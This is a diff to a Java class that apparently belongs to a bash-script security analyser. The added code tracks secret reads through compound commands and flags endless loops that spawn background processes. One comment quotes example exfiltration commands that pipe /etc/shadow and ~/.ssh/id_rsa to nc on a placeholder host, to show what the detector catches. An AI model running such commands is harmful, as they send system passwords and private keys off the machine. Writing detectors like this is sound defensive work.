@@ -32,6 +32,86 @@ final class Compounds {
         this.w = w;
     }
 
+    /**
+     * A compound command: its redirections, its parts walked as bash runs them, and what flows on to the next
+     * pipeline stage.
+     */
+    Stage walk(Compound k, Env env, Ctx ctx) {
+        int readsBefore = w.state.secretReads;
+        List<Redir> redirs = w.expandRedirects(k.redirects(), env, ctx);
+        Stdin stdin = w.stdinFor(redirs, k.redirects(), env, ctx);
+        Producers.Output out = walkParts(k, env, ctx, stdin);
+        if (!redirs.isEmpty()) {
+            Invocation pseudo = new Invocation(List.of(), redirs, stdin, w.s(ctx, k.start()), w.e(ctx, k.end()),
+                    ctx.speculative(), null, ctx.depth());
+            w.rules.evaluate(pseudo, w.reporter);
+        }
+        // a loop fed by "< FILE" passes what it read on ("while read l; do echo $l; done < /etc/shadow | nc h 9"), and
+        // a group that read a secret passes that reader on ("{ cat ~/.ssh/id_rsa; } | nc h 9")
+        List<Invocation> passed = stdin != ctx.stdin() ? stdin.upstream() : List.of();
+        if (w.state.secretReads > readsBefore && w.state.lastSecretSource != null) {
+            passed = new ArrayList<>(passed);
+            passed.add(w.state.lastSecretSource);
+        }
+        return new Stage(passed, out);
+    }
+
+    /** Walks the compound's parts by kind; returns what it prints (unknown text unless a subshell/group says). */
+    private Producers.Output walkParts(Compound k, Env env, Ctx ctx, Stdin stdin) {
+        Producers.Output out = new Producers.Output(null, ctx.stdin().origin().max(Origin.LOCAL));
+        Ctx inner = ctx.withStdin(stdin);
+        switch (k.kind()) {
+            case SUBSHELL -> out = w.walkScript(k.parts().get(0), w.copyEnv(env), inner);
+            case GROUP -> out = w.walkScript(k.parts().get(0), env, inner);
+            case UNTIL -> loop(k, neverTrue(k.parts().get(0)), env, ctx, inner);
+            case WHILE -> loop(k, infiniteCondition(k.parts().get(0)), env, ctx, inner);
+            case IF, CASE -> {
+                for (Ast.Word word : k.words()) {
+                    w.current = ctx;
+                    w.expander.expand(word, env);
+                }
+                walkAll(k, env, inner);
+            }
+            case FOR, SELECT -> walkFor(k, env, inner);
+            case ARITH_FOR -> arithFor(k, env, ctx, inner);
+            case COND, ARITH -> {
+                w.current = ctx;
+                for (Ast.Word word : k.words()) {
+                    w.expander.expand(word, env);
+                }
+            }
+            // the coprocess's output stays readable by the rest of the line (read <&"${COPROC[0]}"): judge it as flowing on
+            case COPROC -> out = w.walkScript(k.parts().get(0), w.copyEnv(env), inner.stage(stdin, true, true));
+            default -> {
+            }
+        }
+        return out;
+    }
+
+    private void walkAll(Compound k, Env env, Ctx inner) {
+        for (Script s : k.parts()) {
+            w.walkScript(s, env, inner);
+        }
+    }
+
+    /** while/until: a loop that never ends and starts background processes is a spawn loop. */
+    private void loop(Compound k, boolean endless, Env env, Ctx ctx, Ctx inner) {
+        if (endless && spawnsInBackground(k.parts().get(1))) {
+            w.report(ctx, Structural.SPAWN_LOOP, k.start(), k.end(), "endless loop starting background processes");
+        }
+        walkAll(k, env, inner);
+    }
+
+    private void arithFor(Compound k, Env env, Ctx ctx, Ctx inner) {
+        w.current = ctx;
+        w.expander.expandString(k.words().get(0), env);
+        String header = k.words().get(0).literal();
+        if (header != null && header.replace(" ", "").equals(";;") && spawnsInBackground(k.parts().get(0))) {
+            w.report(ctx, Structural.SPAWN_LOOP, k.start(), k.end(), "endless loop starting background processes");
+        }
+        w.walkScript(k.parts().get(0), env, inner);
+    }
+
     static boolean infiniteCondition(Script cond) {
         if (cond.items().size() != 1 || cond.items().get(0).pipelines().size() != 1) {
             return false;
